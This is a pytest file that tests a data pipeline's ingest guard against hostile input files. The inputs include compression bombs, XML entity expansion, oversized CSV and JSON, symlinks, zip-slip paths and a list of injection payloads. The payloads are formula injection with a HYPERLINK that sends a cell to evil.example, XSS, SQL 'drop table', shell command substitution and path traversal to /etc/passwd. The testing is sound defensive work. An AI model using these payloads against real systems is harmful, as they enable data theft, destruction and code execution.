"""What is put there to do harm is refused or harmless: within seconds, within memory, and the run goes on."""

import gzip
import io
import os
import resource
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from pipeline.ingest.find import Found, Refused
from pipeline.ingest.guard import Died, Guard
from pipeline.ingest.opening import Member
from pipeline.stages.ingest import IngestReport
from pipeline.warehouse import Warehouse
from tests.ingest.test_containers import workbook

Drop = Callable[[str, str | bytes], Path]
Run = Callable[..., IngestReport]
Writer = Callable[[str, Iterator[bytes]], Path]
MB = 1024**2
SECONDS = 10
MEMORY = 1024**3
ACCOUNTS = "account_id,account_name\na1,Fernhollow\na2,Mossgate\n"
PAYLOADS = (
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'; drop table accepted.accounts; --",
    "$(touch /tmp/owned)",
    "{{ 7 * 7 }}",
    "../../etc/passwd",
    "\u202egnp.exe",
)


@pytest.fixture
def written(tmp_path: Path) -> Writer:
    """Writes a file block by block."""

    def write(name: str, blocks: Iterator[bytes]) -> Path:
        path = tmp_path / name
        with path.open("wb") as file:
            for block in blocks:
                file.write(block)
        return path

    return write


def seconds_of_children() -> float:
    """What child processes have used so far, which does not grow with what else the machine does."""
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    return used.ru_utime + used.ru_stime


def memory_of_children() -> int:
    """The bytes of the largest child so far."""
    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024


def opened(path: Path) -> list[Member | Refused]:
    """What the file holds, within the processor time and memory that any file may take."""
    begun, largest = seconds_of_children(), memory_of_children()
    with Guard() as guard:
        items = guard.opened(Found(path.name, path), path.parent / "staged").items
    assert seconds_of_children() - begun < SECONDS
    # The largest child of the whole process counts: one that another test started is not judged here.
    assert memory_of_children() == largest or memory_of_children() < MEMORY
    return list(items)


def reason_of(path: Path) -> str:
    [refused] = opened(path)
    assert isinstance(refused, Refused), refused
    return refused.reason


@pytest.mark.parametrize("size", [100, pytest.param(1000, marks=pytest.mark.nightly)])
@pytest.mark.parametrize("quote", ['"', ""])
def test_a_field_of_a_gigabyte_is_one_record_that_does_not_fit(written: Writer, size: int, quote: str) -> None:
    blocks = (block for block in (b"id,name\n1," + quote.encode(), *[b"x" * MB] * size, quote.encode() + b"\n2,y\n"))
    [member] = opened(written("field.csv", blocks))
    assert isinstance(member, Member)
    assert member.text is not None
    assert (member.text.records.count, member.text.records.fitting(2)) == (3, 2)


@pytest.mark.parametrize("size", [100, pytest.param(1000, marks=pytest.mark.nightly)])
def test_a_quote_that_is_never_closed_does_not_swallow_memory(written: Writer, size: int) -> None:
    blocks = (block for block in (b'id,name\n1,"', *[b"x" * MB] * size, b"\n2,y\n"))
    [member] = opened(written("open.csv", blocks))
    assert isinstance(member, Member)
    assert member.text is not None
    assert len(member.text.damaged) == 1


@pytest.mark.parametrize("name", ["bomb.csv.gz", "bomb.json.gz"])
def test_a_gzip_that_expands_to_ten_gigabytes_is_refused(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    part = gzip.compress(b"0" * 100 * MB, 9)
    path.write_bytes(part * 100)
    assert reason_of(path) == "unpacks to more than 200 times its size"


def test_a_hundred_thousand_columns_are_refused(written: Writer) -> None:
    header = b",".join(b"c%d" % number for number in range(100_000)) + b"\n"
    row = b"," * 99_999 + b"\n"
    assert reason_of(written("wide.csv", iter([header, *[row] * 50]))) == "has 100000 columns, over the limit of 5000"


def test_a_file_of_nul_bytes_is_harmless(written: Writer) -> None:
    [member] = opened(written("nul.csv", iter([b"\0" * MB] * 100)))
    assert isinstance(member, Member)
    assert member.text is None


def test_random_bytes_are_harmless(written: Writer) -> None:
    [found] = opened(written("noise.csv", iter([os.urandom(MB) for _ in range(20)])))
    assert isinstance(found, Member | Refused)


@pytest.mark.parametrize("mark", [b"\n", b",", b'"', b"\r", b"1,2\n1,2,3\n"])
def test_nothing_but_marks_is_harmless(written: Writer, mark: bytes) -> None:
    [found] = opened(written("marks.csv", iter([mark * (MB // len(mark))] * 20)))
    assert isinstance(found, Member | Refused)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("a.csv", "w") as entry:
        for _ in range(300):
            entry.write(b"0" * MB)
    assert "times its size, over the limit of 200" in reason_of(path)


def test_a_workbook_bomb_is_refused(tmp_path: Path) -> None:
    path, plain = tmp_path / "bomb.xlsx", zipfile.ZipFile(io.BytesIO(workbook()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in plain.namelist():
            archive.writestr(name, plain.read(name))
        with archive.open("xl/media/x.xml", "w") as entry:
            for _ in range(300):
                entry.write(b" " * MB)
    assert "times its size, over the limit of 200" in reason_of(path)


def test_a_workbook_with_entities_that_multiply_is_harmless(tmp_path: Path) -> None:
    path, plain = tmp_path / "laughs.xlsx", zipfile.ZipFile(io.BytesIO(workbook()))
    names = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 12))
    head = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x0 "ha">{names}]>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in plain.namelist():
            text = plain.read(name).decode()
            is_strings = name.endswith("sharedStrings.xml")
            archive.writestr(name, head + text.split("?>", 1)[1].replace("Ann", "&x11;") if is_strings else text)
    for one in opened(path):
        assert isinstance(one, Refused) or one.text is None or one.text.records.path.stat().st_size < MB


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"PK\x05\x06" + b"\0" * 18, b"no workbook"])
def test_a_broken_workbook_is_refused_or_empty(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "broken.xlsx"
    path.write_bytes(content)
    [found] = opened(path)
    assert "is no workbook that can be read" in found.reason if isinstance(found, Refused) else found.text is None


def test_json_that_is_nested_deeply_is_a_damaged_line(written: Writer) -> None:
    [member] = opened(written("deep.jsonl", iter([b'{"a":' * 5 * MB, b"\n", b"[" * 5 * MB, b'\n{"a":1}\n'])))
    assert isinstance(member, Member)
    assert member.text is not None
    assert [one.line for one in member.text.damaged] == [1, 2]


def test_a_json_line_of_a_hundred_megabytes_is_a_damaged_line(written: Writer) -> None:
    blocks = iter([b'{"a":"', *[b"x" * MB] * 100, b'"}\n{"a":1}\n'])
    [member] = opened(written("long.jsonl", blocks))
    assert isinstance(member, Member)
    assert member.text is not None
    assert ([one.line for one in member.text.damaged], member.text.records.count) == ([1], 2)


def test_work_that_takes_too_long_is_ended_and_the_next_file_is_read(written: Writer, tmp_path: Path) -> None:
    path = written("accounts.csv", iter([ACCOUNTS.encode()]))
    with Guard(seconds=1) as guard:
        with pytest.raises(Died, match="takes more than 1 seconds to read"):
            guard.done(tmp_path, 0, time.sleep, 60)
        guard = Guard()
        with guard:
            [member] = guard.opened(Found("accounts.csv", path), tmp_path / "staged").items
    assert isinstance(member, Member)


def test_work_that_takes_too_much_memory_is_ended(tmp_path: Path) -> None:
    with Guard() as guard, pytest.raises(Died, match="needs more than 1024 MB of memory"):
        guard.done(tmp_path, 0, bytearray, 2 * 1024**3)


def test_pipes_links_and_folders_do_not_stop_a_run(drop: Drop, run: Run, tmp_path: Path) -> None:
    exports = drop("2026-06-26/accounts.csv", ACCOUNTS).parent
    (tmp_path / "secret.csv").write_text("password\nx\n")
    os.mkfifo(exports / "pipe.csv")
    (exports / "link.csv").symlink_to("/etc/hostname")
    (exports / "x.csv").mkdir()
    assert {Path(one.path).name: one.status for one in run().files} == {
        "accounts.csv": "loaded",
        "pipe.csv": "refused",
        "link.csv": "refused",
    }


def test_one_hostile_file_does_not_keep_others_from_being_loaded(drop: Drop, run: Run, warehouse: Warehouse) -> None:
    drop("2026-06-26/accounts.csv", ACCOUNTS)
    drop("2026-06-26/a.zip", b"PK\x03\x04")
    drop("2026-06-26/b.xlsx", b"PK\x03\x04")
    drop("2026-06-26/c.csv.gz", b"\x1f\x8bno")
    drop("2026-06-26/d.csv", b"\0\xff" * 5000)
    report = run()
    assert [one.status for one in report.files if one.path.endswith("accounts.csv")] == ["loaded"]
    assert len(report.files) == 5
    assert warehouse.value("select count(*) from accepted.accounts") == 2


def test_formulas_and_scripts_in_every_text_column_are_loaded_as_the_text_they_are(
    drop: Drop, run: Run, warehouse: Warehouse
) -> None:
    cells = [payload.replace('"', '""') for payload in PAYLOADS]
    rows = "".join(f'a{number},"{cell}","{cell}","{cell}"\n' for number, cell in enumerate(cells))
    drop("2026-06-26/accounts.csv", f"account_id,account_name,industry,region\n{rows}")
    assert [one.status for one in run().files] == ["loaded"]
    kept = warehouse.frame("select account_name, industry, region from accepted.accounts order by _line").rows()
    assert kept == [(payload.strip(),) * 3 for payload in PAYLOADS]
    assert not Path("/tmp/owned").exists()


def test_an_entry_whose_name_leaves_the_folder_writes_nothing_there(drop: Drop, run: Run, tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../2026-06-26/accounts.csv", ACCOUNTS)
        archive.writestr("/tmp/owned.csv", "x\n")
        archive.writestr("new\nline.csv", "day,dish\n1,2\n")
    drop("slip.zip", buffer.getvalue())
    assert {one.path: one.status for one in run().files} == {
        "slip.zip!../../2026-06-26/accounts.csv": "loaded",
        "slip.zip!/tmp/owned.csv": "unknown",
        "slip.zip!new?line.csv": "unknown",
    }
    assert not Path("/tmp/owned.csv").exists()
    assert not list(tmp_path.glob("2026-06-26"))
